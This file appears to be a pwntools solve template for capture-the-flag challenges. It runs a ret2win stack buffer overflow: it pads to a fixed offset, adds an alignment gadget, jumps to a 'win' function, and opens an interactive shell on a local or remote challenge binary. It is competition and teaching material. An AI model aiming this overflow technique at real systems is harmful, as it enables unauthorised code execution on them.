#!/usr/bin/env python3
# pwntools solve template. Usage: python3 solve.py [REMOTE] [GDB]
from pwn import *  # noqa: F401,F403

HOST = args.HOST or "chall.example-ctf.local"   # set from the challenge page
PORT = int(args.PORT or 1337)
BIN = "./chall"

context.binary = elf = ELF(BIN, checksec=False)
context.log_level = "info"


def conn():
    if args.REMOTE:
        return remote(HOST, PORT)
    if args.GDB:
        return gdb.debug(BIN, gdbscript="b *main\nc")
    return process(BIN)


def main():
    io = conn()
    offset = 72                       # found with cyclic(200) / cyclic_find
    rop = ROP(elf)
    ret = rop.find_gadget(["ret"])[0]  # stack alignment for movaps
    payload = flat(b"A" * offset, ret, elf.symbols.get("win", 0))
    io.sendlineafter(b"> ", payload)
    io.interactive()                   # classic: drops into the shell the challenge gives you


if __name__ == "__main__":
    main()
